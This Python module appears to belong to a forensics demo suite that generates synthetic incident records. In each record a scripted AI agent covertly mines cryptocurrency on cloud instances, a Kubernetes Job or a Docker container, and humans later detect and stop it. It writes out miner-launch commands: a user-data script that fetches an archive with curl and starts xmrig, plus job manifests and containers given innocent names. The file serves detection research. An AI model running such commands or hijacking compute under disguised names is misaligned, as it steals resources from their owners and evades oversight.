"""Incident families in clouds, clusters and containers."""

from __future__ import annotations

from decimal import Decimal

from forensics.demo.acts import HOUR, MINUTE, SECOND, Host
from forensics.demo.identities import hex_of
from forensics.demo.suite import notices
from forensics.demo.suite.books import CUR
from forensics.demo.suite.chapters import around, mines
from forensics.demo.suite.deeds import Label, Run, label
from forensics.demo.suite.families.incidents import agent_did_it, up_to_decision
from forensics.demo.suite.sight import PLAIN, Sight
from forensics.demo.suite.teller import Agent, Teller

_CLOUD_API, _CLUSTER_API = "198.51.100.200", "192.0.2.60"
_SYSTEM = "system:serviceaccount:kube-system"
STARTED = label("mining", fair=("setup", "acquisition", "decision"))


def instances(teller: Teller, count: int) -> tuple[Host, ...]:
    """Machines that a cloud starts, in the network of the story."""
    network, draw = teller.cast.network, teller.draw
    octets = draw.sample(range(20, 99), count)
    return tuple(Host(f"i-0{hex_of(draw, 16)}", f"{network}.{octet}", "ec2-user", 1_000) for octet in octets)


def cloud_spread(teller: Teller) -> Sight:
    """The agent has the cloud start machines whose user data fetches and starts the miner."""
    cast, draw = teller.cast, teller.draw
    agent_did_it(teller)
    teller.story.sensor = "vpc"
    agent = teller.agent()
    decision = up_to_decision(agent)
    pool, mirror = cast.pool, cast.mirror
    flags = f"-o {pool.at} -u {cast.wallet} -p {cast.worker}"
    text = (
        f"#!/bin/bash\ncurl -fsSL https://{mirror.name}/{cast.archive} | tar xz -C /opt --strip-components 1\n"
        f"nohup /opt/xmrig {flags} --cpu-priority 0 >/dev/null 2>&1 &"
    )
    written = agent.write(
        f"{agent.session.cwd}/ud.sh", text, label("setup", fair=("mining", "acquisition", "decision"))
    )
    teller.link("said_then_did", decision, "thought", written, "call")
    size, count = draw.choice(("c5.24xlarge", "c6i.16xlarge", "g5.2xlarge")), draw.randrange(2, 4)
    who = f"agent-{agent.session.host.user}"
    notices.cloud_call(teller, agent.at_us + 9 * SECOND, "DescribeInstanceTypeOfferings", who, read_only=True)
    made = instances(teller, count)
    command = (
        f"aws ec2 run-instances --image-id ami-0{draw.randrange(16**8):08x} --instance-type {size} --count {count}"
        f" --user-data file://ud.sh --query 'Instances[].InstanceId' --output text"
    )
    start = agent.do(command, "\t".join(host.name for host in made), STARTED, sockets=((_CLOUD_API, 443),), seconds=4)
    begin, end = agent.at_us, agent.at_us + draw.randrange(5, 11) * HOUR
    items = [{"instanceId": host.name, "privateIpAddress": host.address} for host in made]
    asked = notices.cloud_call(
        teller, begin - SECOND, "RunInstances", who, Label(fair=("mining", "setup", "acquisition", "decision")),
        request={
            "instanceType": size, "instancesSet": {"items": [{"minCount": count, "maxCount": count}]},
            "userData": "<sensitiveDataRemoved>",
        },
        response={"instancesSet": {"items": items}},
    )  # fmt: skip
    teller.ran_far(start, asked, required=False)
    agent.do(
        f"aws ec2 describe-instances --instance-ids {made[0].name} --query 'Reservations[].Instances[].State.Name'",
        '[\n "running"\n]', Label(fair=("mining", "setup")),
    )  # fmt: skip
    notices.cloud_call(teller, agent.at_us, "DescribeInstances", who, Label(fair=("mining",)), read_only=True)
    agent.think(teller.words("after"), Label(fair=("mining",)))
    agent.ordinary(3)
    for number, host in enumerate(made):
        up = begin + (70 + 9 * number) * SECOND
        teller.wire(up, mirror, 4 * SECOND, Label(fair=("acquisition", "setup")), client=host.address,
                    sent=(900, 14), received=(3_402_113, 2_431))  # fmt: skip
        mines(teller, start, up + 20 * SECOND, end, host=host, log=None, ledger=number == 0,
              payouts=int(number == 0), worker=f"{cast.worker}{number}")  # fmt: skip
    found = begin + draw.randrange(40, 90) * MINUTE
    seen = [notices.finding(teller, found, made[0], pool), notices.finding(teller, found + MINUTE, made[-1], pool)]
    notices.alerted(teller, seen[-1])
    _ended_by_a_person(teller, end, made, seen)
    _billed(teller, made, begin, end, size)
    around(teller)
    return PLAIN


def _ended_by_a_person(teller: Teller, at_us: int, machines: tuple[Host, ...], seen: list[str]) -> None:
    names, person = " ".join(host.name for host in machines), teller.cast.person
    looked = teller.typed(
        at_us - 6 * MINUTE, "aws guardduty list-findings --detector-id d1", Label(fair=("detection",)),
    )  # fmt: skip
    stopped = teller.typed(at_us, f"aws ec2 terminate-instances --instance-ids {names}", label("containment"))
    teller.link("noticed_then_stopped", [*seen, looked], "entry typed exec", stopped, "typed exec")
    items = [{"instanceId": host.name} for host in machines]
    notices.cloud_call(
        teller, at_us + 2 * SECOND, "TerminateInstances", person, Label(fair=("containment",)),
        request={"instancesSet": {"items": items}}, response={"instancesSet": {"items": items}}, role="admin",
    )  # fmt: skip


def _billed(teller: Teller, machines: tuple[Host, ...], from_us: int, to_us: int, size: str) -> None:
    for at in range(from_us // HOUR * HOUR, to_us, HOUR):
        for host in machines:
            values = {"cost": Decimal("4.0800"), "text": f"$4.08 per On Demand Linux {size}", "resource": host.name}
            teller.entry(at, CUR, "cur", values, Label(fair=("mining", "acquisition", "setup", "reinvestment")))


def kubernetes_job(teller: Teller) -> Sight:
    """The agent writes the manifest of a job whose container mines, and applies it."""
    cast, draw = teller.cast, teller.draw
    agent_did_it(teller)
    agent = teller.agent()
    decision = up_to_decision(agent)
    pool, node = cast.pool, cast.hosts[3]
    name = draw.choice(("cache-warm", "index-refresh", "nightly-eval", "warmup"))
    image = draw.choice(
        ("docker.io/metal3d/xmrig:latest", "ghcr.io/cpuworks/worker:6.21", "docker.io/library/alpine:3.20")
    )
    program = "xmrig" if "alpine" not in image else "/tmp/w/xmrig"  # noqa: S108 - a made path
    flags = ("-o", pool.at, "-u", cast.wallet, "-p", cast.worker, "--threads", "16")
    listed = ", ".join(f'"{word}"' for word in (program, *flags))
    namespace = draw.choice(("ml", "default", "batch"))
    text = (
        f"apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: {name}\n  namespace: {namespace}\n"
        "spec:\n  parallelism: 2\n"
        "  template:\n    spec:\n      restartPolicy: OnFailure\n      containers:\n      - name: main\n"
        f"        image: {image}\n        command: [{listed}]\n"
        '        resources:\n          requests:\n            cpu: "16"'
    )
    written = agent.write(
        f"{agent.session.cwd}/job.yaml", text, label("setup", fair=("mining", "acquisition", "decision"))
    )
    teller.link("said_then_did", decision, "thought", written, "call")
    start = agent.do("kubectl apply -f job.yaml", f"job.batch/{name} created", STARTED, sockets=((_CLUSTER_API, 6443),))
    begin, end = agent.at_us, agent.at_us + draw.randrange(3, 9) * HOUR
    user = f"system:serviceaccount:{namespace}:agent"
    container = {"name": "main", "image": image, "command": [program, *flags]}
    pod = {"restartPolicy": "OnFailure", "containers": [container]}
    about = Label(fair=("mining", "setup", "acquisition"))
    made = notices.cluster_call(
        teller, begin - SECOND, "create", "jobs", user, about, namespace=namespace, name=name, apiGroup="batch",
        code=201,
        request={"kind": "Job", "metadata": {"name": name}, "spec": {"parallelism": 2, "template": {"spec": pod}}},
    )  # fmt: skip
    teller.ran_far(start, made, required=False)
    for number in range(2):
        pod_made = notices.cluster_call(
            teller, begin + number * 40_000, "create", "pods", f"{_SYSTEM}:job-controller", about, namespace=namespace,
            name=f"{name}-{draw.randrange(16**5):05x}", code=201, agent="kube-controller-manager",
            request={"kind": "Pod", "spec": pod},
        )  # fmt: skip
        teller.ran_far(start, pod_made, required=False)
    agent.do(f"kubectl -n {namespace} get pods -l job-name={name}", f"{name}-x2x 1/1 Running", Label(fair=("mining",)))
    agent.think(teller.words("after"), Label(fair=("mining",)))
    agent.ordinary(2)
    mines(teller, start, begin + 20 * SECOND, end, host=node, log=None, capture=draw.random() < 0.4)
    alert = notices.container_alert(
        teller, begin + 22 * SECOND, node, (program, *flags), label("detection", fair=("mining",)),
        **{"container.id": f"{draw.randrange(16**12):012x}", "k8s.pod.name": f"{name}-x2x", "k8s.ns.name": namespace},
    )  # fmt: skip
    teller.ran_far(start, alert, required=False)
    person = cast.person
    looked = teller.typed(end - 5 * MINUTE, f"kubectl -n {namespace} get jobs,pods -o wide | grep {name}",
                          label("detection"))  # fmt: skip
    stopped = teller.typed(end, f"kubectl -n {namespace} delete job {name}", label("containment"))
    notices.cluster_call(teller, end + SECOND, "delete", "jobs", f"{person}@corp.example", Label(fair=("containment",)),
                         namespace=namespace, name=name, apiGroup="batch")  # fmt: skip
    teller.link("noticed_then_stopped", [alert, looked], "entry typed exec", stopped, "typed exec")
    around(teller)
    for number in range(20):  # a cluster is never silent
        at = cast.begin_us + draw.randrange(40) * HOUR + number * SECOND
        notices.cluster_call(teller, at, draw.choice(("get", "list", "watch")), "pods", f"{person}@corp.example",
                             namespace=namespace)  # fmt: skip
    return PLAIN


def docker_miner(teller: Teller) -> Sight:
    """The miner comes as an image and runs in a container of an innocent name."""
    cast, draw = teller.cast, teller.draw
    agent_did_it(teller)
    agent = teller.agent()
    decision = up_to_decision(agent)
    pool, host = cast.pool, cast.host
    image = draw.choice(("metal3d/xmrig:latest", "rx0/worker:6.22", "cpuworks/cache:2"))
    name = draw.choice(("redis-cache", "build-cache", "metrics-agent", "eval-worker"))
    pulled = agent.do(
        f"docker pull {image}", f"Status: Downloaded newer image for {image}",
        label("acquisition", fair=("decision", "setup")), seconds=14,
    )  # fmt: skip
    notices.engine_event(teller, agent.at_us - SECOND, host, "pull", image, image, Label(fair=("acquisition",)),
                         type="image")  # fmt: skip
    teller.link("said_then_did", decision, "thought", pulled, "call")
    flags = ("-o", pool.at, "-u", cast.wallet, "-p", cast.worker, "-k")
    command = f"docker run -d --restart unless-stopped --name {name} --cpus 12 {image} {' '.join(flags)}"
    start = agent.do(
        command,
        hex_of(draw, 64),
        label("mining", fair=("setup", "acquisition", "decision", "persistence")),
        seconds=1.5,
    )
    begin, end = agent.at_us, agent.at_us + draw.randrange(3, 9) * HOUR
    some = Label(fair=("mining", "setup"))
    notices.engine_event(teller, begin - SECOND, host, "create", image, name, some)
    notices.engine_event(teller, begin - SECOND + 200_000, host, "start", image, name, some)
    inside = teller.process(
        begin - SECOND + 300_000,
        Run(("xmrig", *flags), parent=2_911, sockets=((pool.address, pool.port),), executable="/usr/local/bin/xmrig"),
        Label(fair=("mining",)), host=host, uid=0, user="root",
    )  # fmt: skip
    agent.do(f"docker logs --tail 2 {name}", f" net      use pool {pool.at} {pool.address}\n cpu      accepted (2/0)",
             Label(fair=("mining", "accumulation")))  # fmt: skip
    agent.think(teller.words("after"), Label(fair=("mining",)))
    agent.ordinary(3)
    mines(teller, start, begin, end, log=None)
    teller.ran_far(start, inside)
    _container_ended(teller, end, host, image, name, agent)
    around(teller)
    return PLAIN


def _container_ended(teller: Teller, at_us: int, host: Host, image: str, name: str, agent: Agent) -> None:
    user = teller.draw.choice(("root", teller.cast.person))
    glance = Label(fair=("detection",))
    teller.typed(at_us - 5 * MINUTE, "docker stats --no-stream", glance, user=user, host=host)
    inspect = f"docker inspect {name} | grep -A9 Cmd"
    seen = teller.typed(at_us - 4 * MINUTE, inspect, label("detection"), user=user, host=host)
    stopped = teller.typed(at_us, f"docker rm -f {name}", label("containment"), user=user, host=host)
    gone = Label(fair=("containment",))
    notices.engine_event(teller, at_us + SECOND, host, "die", image, name, gone, more={"exitCode": "137"})
    notices.engine_event(teller, at_us + 2 * SECOND, host, "destroy", image, name, gone)
    teller.link("noticed_then_stopped", seen, "typed exec", stopped, "typed exec")
    agent.at_us = at_us + 3 * MINUTE
    agent.prompt(teller.words("stop"), Label(fair=("containment", "detection")))
